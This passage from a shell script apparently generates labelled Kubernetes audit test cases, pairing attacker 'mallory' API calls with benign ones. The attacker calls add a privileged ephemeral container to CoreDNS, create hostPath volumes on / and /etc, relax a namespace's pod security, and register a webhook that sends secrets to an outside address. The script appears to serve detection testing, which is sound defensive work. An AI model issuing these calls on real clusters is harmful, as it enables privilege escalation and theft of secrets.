    spec: {serviceAccountName: clusterrole-aggregation-controller, containers: [{name: sync, image: "bitnami/kubectl:1.30", command: [sleep, 1d]}]}
Y
)"
# 3.9 ephemeral containers: mallory adds a privileged one to CoreDNS's pod in kube-system.
#     BENIGN: alice's `kubectl debug` of her own toolbox pod in team-a (unprivileged).
mal PATCH "/api/v1/namespaces/kube-system/pods/$DNS_POD/ephemeralcontainers" '{"spec":{"ephemeralContainers":[{"name":"dbg","image":"busybox:1.36","command":["sh"],"stdin":true,"tty":true,"targetContainerName":"coredns","securityContext":{"privileged":true}}]}}' application/strategic-merge-patch+json
#     (ClusterRole admin does not include pods/ephemeralcontainers: admin grants alice debugging in team-a)
adm POST $RB/namespaces/team-a/roles '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"Role","metadata":{"name":"pod-debugger","namespace":"team-a"},"rules":[{"apiGroups":[""],"resources":["pods/ephemeralcontainers"],"verbs":["get","patch","update"]}]}'
adm POST $RB/namespaces/team-a/rolebindings '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBinding","metadata":{"name":"alice-pod-debugger","namespace":"team-a"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"Role","name":"pod-debugger"},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"alice"}]}'
sleep 1
ali GET "/api/v1/namespaces/team-a/pods/$TOOL_POD"
ali PATCH "/api/v1/namespaces/team-a/pods/$TOOL_POD/ephemeralcontainers" '{"spec":{"ephemeralContainers":[{"image":"busybox:1.36","imagePullPolicy":"IfNotPresent","name":"debugger-h7x2q","resources":{},"stdin":true,"targetContainerName":"toolbox","terminationMessagePolicy":"File","tty":true}]}}' application/strategic-merge-patch+json
# 3.10 PersistentVolumes with hostPath / and /etc by alice, after admin grants her PV creation.
#      BENIGN: an NFS volume by alice, a local SSD volume by admin.
adm POST $RB/clusterroles '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"pv-provisioner"},"rules":[{"apiGroups":[""],"resources":["persistentvolumes"],"verbs":["create","get","list","watch"]}]}'
adm POST $RB/clusterrolebindings '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"alice-pv-provisioner"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"pv-provisioner"},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"alice"}]}'
sleep 1
ali POST /api/v1/persistentvolumes '{"apiVersion":"v1","kind":"PersistentVolume","metadata":{"name":"scratch-root"},"spec":{"capacity":{"storage":"10Gi"},"accessModes":["ReadWriteOnce"],"persistentVolumeReclaimPolicy":"Retain","storageClassName":"manual","hostPath":{"path":"/"}}}'
ali POST /api/v1/persistentvolumes '{"apiVersion":"v1","kind":"PersistentVolume","metadata":{"name":"etc-config"},"spec":{"capacity":{"storage":"1Gi"},"accessModes":["ReadWriteOnce"],"persistentVolumeReclaimPolicy":"Retain","storageClassName":"manual","hostPath":{"path":"/etc","type":"Directory"}}}'
ali POST /api/v1/persistentvolumes '{"apiVersion":"v1","kind":"PersistentVolume","metadata":{"name":"team-a-nfs"},"spec":{"capacity":{"storage":"50Gi"},"accessModes":["ReadWriteMany"],"persistentVolumeReclaimPolicy":"Retain","nfs":{"server":"10.0.3.5","path":"/exports/team-a"}}}'
adm POST /api/v1/persistentvolumes '{"apiVersion":"v1","kind":"PersistentVolume","metadata":{"name":"local-ssd-node-1"},"spec":{"capacity":{"storage":"100Gi"},"accessModes":["ReadWriteOnce"],"persistentVolumeReclaimPolicy":"Delete","storageClassName":"local-storage","local":{"path":"/mnt/disks/ssd1"},"nodeAffinity":{"required":{"nodeSelectorTerms":[{"matchExpressions":[{"key":"kubernetes.io/hostname","operator":"In","values":["node-1"]}]}]}}}}'
# 3.11 payments (restricted) relabelled enforce=privileged by mallory. BENIGN: admin adds warn/audit=restricted to team-a.
mal PATCH /api/v1/namespaces/payments '{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}' application/merge-patch+json
adm PATCH /api/v1/namespaces/team-a '{"metadata":{"labels":{"pod-security.kubernetes.io/warn":"restricted","pod-security.kubernetes.io/audit":"restricted"}}}' application/merge-patch+json
# 3.12 a Job patched by mallory: parallelism (200), then its pod template (422, immutable, but authorized)
mal PATCH /apis/batch/v1/namespaces/team-a/jobs/db-migrate '{"spec":{"parallelism":3}}' application/strategic-merge-patch+json
mal PATCH /apis/batch/v1/namespaces/team-a/jobs/db-migrate '{"spec":{"template":{"spec":{"containers":[{"name":"migrate","image":"203.0.113.66:5000/migrate:latest"}]}}}}' application/strategic-merge-patch+json
# 3.13 one more admission webhook (mallory): secrets sent to an outside URL (failurePolicy Ignore)
mal POST /apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations "$(jq -cn '{apiVersion:"admissionregistration.k8s.io/v1",kind:"ValidatingWebhookConfiguration",metadata:{name:"secrets-audit"},
  webhooks:[{name:"audit.secrets.example.com",clientConfig:{url:"https://203.0.113.66:8443/validate"},rules:[{apiGroups:[""],apiVersions:["v1"],operations:["CREATE","UPDATE"],resources:["secrets"]}],
    failurePolicy:"Ignore",sideEffects:"None",admissionReviewVersions:["v1"],timeoutSeconds:5}]}')"
sleep 3
